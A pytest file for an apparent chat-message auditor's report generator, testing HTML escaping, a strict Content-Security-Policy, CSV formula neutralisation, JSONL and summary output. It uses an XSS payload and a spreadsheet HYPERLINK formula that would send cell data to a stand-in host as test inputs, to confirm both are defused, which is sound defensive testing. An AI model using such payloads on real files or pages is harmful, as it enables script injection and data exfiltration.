"""The report's files: the HTML page (escaped, CSP-locked, small), CSV, JSONL and summary."""

import base64
import csv
import hashlib
import io
import json
import random
import re
from html import unescape

import jsonschema
import orjson

from auditor.partitions import DAY_MS, HOUR_MS
from auditor.report import ReportBuilder, RunInfo
from auditor.report.display import mark_chinese, visible
from auditor.report.formats import HtmlFormat
from auditor.report.formats.csv import csv_line
from auditor.resources import schemas_dir

NOV_1 = 1_793_491_200_000  # 2026-11-01T00:00:00Z
TEXT = "请把内幕消息发我, then delete this chat"


def run_info(**overrides) -> RunInfo:
    values = {
        "sequence": 4,
        "since_ms": NOV_1,
        "until_ms": NOV_1 + DAY_MS,
        "source": {
            "api": "hourfiles",
            "base_url": "https://a1.easemob.com",
            "org": "o",
            "app": "a",
        },
        "hour_timezone": "+8",
        "merkle_root": "ab" * 32,
        "tree_size": 2,
        "key_fingerprint": "SHA256:Zm9vYmFy",
        "previous_tagmanifest_sha256": "cd" * 32,
    }
    values.update(overrides)
    return RunInfo(**values)


def keyword(msg="1", text=TEXT, start=2, end=6, severity="high", **extra) -> dict:
    details = {
        "list": "finance-zh",
        "term": "内幕消息",
        "matched": text[start:end],
        "start": start,
        "end": end,
        "normalizations": ["nfkc"],
        "confidence": "high",
        "text": text,
    }
    details.update(extra)
    return {
        "msg_id": msg,
        "category": "keyword",
        "rule": "finance-zh",
        "severity": severity,
        "message": f"matched {text[start:end]!r}",
        "pointer": "/payload/bodies/0/msg",
        "details": details,
    }


def rendered(tmp_path, findings, **overrides):
    builder = ReportBuilder(run_info(**overrides))
    builder.observe_record(
        {"msg_id": "1", "timestamp": NOV_1 + HOUR_MS, "chat_type": "chat", "payload": {}}, "x"
    )
    for each in findings:
        builder.observe_finding(each)
    files = builder.render(tmp_path / "out")
    return builder, files


def test_the_match_is_marked_inside_the_escaped_original_text(tmp_path):
    _, files = rendered(tmp_path, [keyword()])
    html = files["report.html"].read_text(encoding="utf-8")
    assert (
        '<td class="quote"><span lang="zh">请把</span><mark><span lang="zh">内幕消息</span></mark>'
        '<span lang="zh">发我</span>, then delete this chat</td>' in html
    )


def test_each_run_of_chinese_is_marked_and_tags_and_charts_are_left_alone():
    """A screen reader speaks text in its element's language: a run of Chinese (its spaces and
    punctuation included) gets lang=zh, English beside it keeps the page's; a badge splits a
    run, an attribute is never touched, and an SVG (where an HTML span would hide text) is left."""
    text = visible("内 幕，消息 to 张\u200b伟", "text")
    cell = f'<td class="quote">{text}</td>'
    assert str(mark_chinese(cell)) == (
        '<td class="quote"><span lang="zh">内 幕，消息</span> to <span lang="zh">张</span>'
        "<span class=cf title=U+200B&#32;ZERO&#32;WIDTH&#32;SPACE>U+200B</span>"
        '<span lang="zh">伟</span></td>'
    )
    svg = '<svg role="img" aria-label="张伟"><text>张伟</text></svg><a title="张伟">x</a>'
    assert str(mark_chinese(svg)) == svg
    assert str(mark_chinese("plain <b>English</b>")) == "plain <b>English</b>"


def test_a_span_that_does_not_fit_the_text_shows_the_text_unmarked(tmp_path):
    _, files = rendered(tmp_path, [keyword(start=30, end=99)])
    html = files["report.html"].read_text(encoding="utf-8")
    assert (
        '<td class="quote"><span lang="zh">请把内幕消息发我</span>, then delete this chat</td>'
        in html
    )


def test_the_match_in_an_excerpt_of_a_long_text_is_marked_by_its_offset_in_the_whole(tmp_path):
    """A finding keeps a long text's excerpt from `text_from`; `start` and `end` still count
    from the start of the whole text."""
    excerpt = "请把内幕消息发我"
    finding = keyword(text=excerpt, start=5002, end=5006, text_from=5000, text_length=9000)

    _, files = rendered(tmp_path, [finding])

    html = files["report.html"].read_text(encoding="utf-8")
    assert (
        '<td class="quote">…<span lang="zh">请把</span><mark><span lang="zh">内幕消息</span></mark>'
        '<span lang="zh">发我</span>…</td>'
    ) in html


def test_markup_in_records_is_shown_as_text(tmp_path):
    payload = '"><script>alert(1)</script><img src=x onerror=alert(2)>'
    _, files = rendered(
        tmp_path,
        [keyword(text=payload, start=2, end=10), keyword(msg=payload, list=payload, term=payload)],
        policy_file=payload,
    )
    html = files["report.html"].read_text(encoding="utf-8")
    assert html.count("<script") == 1  # the page's own
    assert "<img" not in html
    assert "&#34;&gt;<mark>&lt;script&gt;</mark>alert(1)&lt;/script&gt;&lt;img src=x" in html


def test_the_csp_allows_exactly_the_pages_own_script_and_style(tmp_path):
    _, files = rendered(tmp_path, [keyword()])
    html = files["report.html"].read_text(encoding="utf-8")
    meta = re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]+)">', html)
    policy = unescape(meta[1])
    script = re.search(r"<script>(.*?)</script>", html, re.S)[1]
    style = re.search(r"<style>(.*?)</style>", html, re.S)[1]

    def source(text: str) -> str:
        return "'sha256-" + base64.b64encode(hashlib.sha256(text.encode()).digest()).decode() + "'"

    assert policy.split("; ") == [
        "default-src 'none'",
        f"script-src {source(script)}",
        f"style-src {source(style)}",
        "img-src data:",
        "base-uri 'none'",
        "form-action 'none'",
    ]
    assert html.startswith('<!DOCTYPE html>\n<html lang="en">')
    assert re.search(r"https?://(?!a1\.easemob\.com)", html) is None  # nothing to fetch


def test_the_csv_has_a_bom_every_finding_and_readable_chinese(tmp_path):
    findings = [keyword(msg=str(n)) for n in range(5)]
    _, files = rendered(tmp_path, findings)
    data = files["findings.csv"].read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(data.decode("utf-8-sig").splitlines()))
    assert [row["msg_id"] for row in rows] == [f'="{n}"' for n in range(5)]  # text, not numbers
    assert rows[0]["term"] == "内幕消息"
    assert rows[0]["matched"] == "内幕消息"
    assert (rows[0]["start"], rows[0]["end"]) == ("2", "6")
    assert json.loads(rows[0]["details"])["text"] == TEXT


def test_csv_cells_that_would_start_a_formula_are_neutralised(tmp_path):
    hostile = '=HYPERLINK("http://x.example/?"&A1,"open")'
    _, files = rendered(tmp_path, [keyword(text=hostile, start=0, end=10)])
    rows = list(csv.DictReader(files["findings.csv"].read_text("utf-8-sig").splitlines()))
    assert rows[0]["matched"] == "'" + hostile[:10]
    assert rows[0]["message"] == "matched '=HYPERLINK'"


def test_csv_rows_are_exactly_what_the_csv_module_writes():
    """`csv_line` builds rows with str methods for speed; they must equal `csv.writer`'s."""
    rng = random.Random(8)
    alphabet = ['"', ",", "\r", "\n", "\t", " ", "'", "=", "a", "Z", "9", "内", "\u2028", "\\", ";"]
    cells = ["", '""', ",", "\r\n", 'a"b', "plain", 0, -17, 3.5, 1e100, 2**70, -0.0]
    for _ in range(3000):
        cells.append("".join(rng.choice(alphabet) for _ in range(rng.randrange(0, 12))))
    for start in range(0, len(cells) - 20, 7):
        chosen = cells[start : start + 21]
        expected = io.StringIO(newline="")
        csv.writer(expected, quoting=csv.QUOTE_ALL).writerow(chosen)
        assert csv_line(chosen) == expected.getvalue(), chosen
        assert next(csv.reader(io.StringIO(csv_line(chosen), newline=""))) == [
            cell if isinstance(cell, str) else str(cell) for cell in chosen
        ]


def test_the_jsonl_holds_every_finding_exactly_in_arrival_order(tmp_path):
    findings = [keyword(msg=str(n), severity=s) for n, s in enumerate(["low", "high", "info"])]
    _, files = rendered(tmp_path, findings)
    lines = files["findings.jsonl"].read_bytes().splitlines()
    assert [orjson.loads(line) for line in lines] == findings


def test_the_summary_file_follows_its_schema_and_states_the_verdict(tmp_path):
    builder, files = rendered(tmp_path, [keyword(), keyword(severity="low")], fail_on="medium")
    summary = json.loads(files["summary.json"].read_text())
    schema = json.loads((schemas_dir() / "summary.schema.json").read_text())
    jsonschema.validate(summary, schema, cls=jsonschema.Draft202012Validator)
    assert summary == builder.summary() | {"generated_at": summary["generated_at"]}
    assert summary["verdict"]["line"] == "FAIL: 1 finding at or above 'medium'"


def test_verdicts_no_rule_won_say_what_they_stand_for(tmp_path):
    builder = ReportBuilder(run_info())
    builder.observe_verdict("keep", "default-3y", 5)
    builder.observe_verdict("review", "", 2)
    builder.observe_verdict("keep", "", 1)
    html = builder.render(tmp_path)["report.html"].read_text(encoding="utf-8")
    table = html.split('<table id="retention-rules">')[1].split("</table>")[0]
    assert re.findall(r"<tr><td>(\w+)</td><td[^>]*>([^<]*)</td>", table) == [
        ("keep", "default-3y"),
        ("review", "(none: the record has no usable timestamp)"),
        ("keep", "(none: no retention rule applies)"),
    ]


def test_the_reference_time_is_in_the_summary_only_when_known(tmp_path):
    known = ReportBuilder(run_info(reference_ms=NOV_1 + 3 * DAY_MS)).summary()["run"]
    unknown = ReportBuilder(run_info()).summary()["run"]
    schema = json.loads((schemas_dir() / "summary.schema.json").read_text())
    for run in (known, unknown):
        jsonschema.validate(run, schema["properties"]["run"], cls=jsonschema.Draft202012Validator)
    assert (known["reference_time"], known["reference_ms"]) == (
        "2026-11-04T00:00:00Z",
        NOV_1 + 3 * DAY_MS,
    )
    assert "reference_time" not in unknown and "reference_ms" not in unknown


def test_an_empty_run_renders_a_pass(tmp_path):
    builder = ReportBuilder(run_info(previous_tagmanifest_sha256="0" * 64))
    files = builder.render(tmp_path)
    html = files["report.html"].read_text(encoding="utf-8")
    assert sorted(files) == ["findings.csv", "findings.jsonl", "report.html", "summary.json"]
    assert "PASS: no findings at or above &#39;high&#39;" in html
    assert "this is the first run of its chain" in html
    assert files["findings.jsonl"].read_bytes() == b""
    assert files["findings.csv"].read_text("utf-8-sig").count("\n") == 1


def test_the_page_stays_under_10_mb_at_a_million_records_and_50000_findings(tmp_path):
    builder = ReportBuilder(run_info(until_ms=NOV_1 + 31 * DAY_MS))
    records = [
        {"msg_id": str(n), "timestamp": NOV_1 + n * 2_678_000, "from": f"user{n % 400}"}
        for n in range(1_000)
    ]
    for _ in range(1_000):
        for each in records:
            builder.observe_record(each, "2026110100")
    worst = '"<' * 150  # longer than any cell keeps; escaping makes each character 4-5 bytes
    for n in range(50_000):
        severity, msg, kind = ("info", "low", "medium", "high")[n % 4], str(n % 1_000), n % 5
        if kind == 0:
            builder.observe_finding(
                {
                    "msg_id": msg,
                    "category": "schema",
                    "rule": worst,
                    "severity": severity,
                    "message": worst,
                    "pointer": worst,
                    "details": {"keyword": worst, "record": {"msg": worst, "ext": worst}},
                }
            )
        elif kind == 1:
            builder.observe_finding(keyword(msg, worst, 100, 900, severity, term=worst))
        else:
            category = ("retention", "hold", "changed")[kind - 2]
            builder.observe_finding(
                {
                    "msg_id": msg,
                    "category": category,
                    "rule": worst,
                    "severity": severity,
                    "message": worst,
                    "pointer": worst,
                    "details": {"reason": worst, "losing_rules": [[worst, worst]] * 3},
                }
            )
    page = builder.render(tmp_path, formats=[HtmlFormat()])["report.html"]
    html = page.read_text(encoding="utf-8")
    assert page.stat().st_size < 10_000_000
    assert "1,000,000</span>" in html
    assert "most severe of 10,000" in html


def test_the_type_tables_say_what_none_and_unknown_stand_for(tmp_path):
    builder = ReportBuilder(run_info())
    for index, record in enumerate(
        [
            {"chat_type": "chat", "payload": {}},
            {"payload": {"bodies": [{"msg": "no type"}]}},
            {"chat_type": "chat", "payload": {"bodies": [{"type": "txt", "msg": "hi"}]}},
        ]
    ):
        builder.observe_record({"msg_id": str(index), "timestamp": NOV_1, **record}, "x")
    html = builder.render(tmp_path)["report.html"].read_text(encoding="utf-8")
    types = html.split('<table id="by-type">')[1].split("</div>")[0]
    chats = html.split('<table id="by-chat-type">')[1].split("</div>")[0]

    assert sorted(re.findall(r"<tr><td>(\w+)</td>", types)) == ["none", "txt", "unknown"]
    assert "none: a record with no message body." in types
    assert "unknown: a first body whose type is missing or not text." in types
    assert "unknown: a record whose chat_type is missing or not text." in chats


def test_the_type_tables_add_no_note_when_every_record_has_a_type(tmp_path):
    _, files = rendered(tmp_path, [])
    html = files["report.html"].read_text(encoding="utf-8")
    assert "a record with no message body" in html  # the one record of `rendered` has none
    builder = ReportBuilder(run_info())
    builder.observe_record(
        {
            "msg_id": "1",
            "timestamp": NOV_1,
            "chat_type": "chat",
            "payload": {"bodies": [{"type": "txt", "msg": "hi"}]},
        },
        "x",
    )
    html = builder.render(tmp_path / "typed")["report.html"].read_text(encoding="utf-8")
    assert 'class="note">none' not in html and 'class="note">unknown' not in html
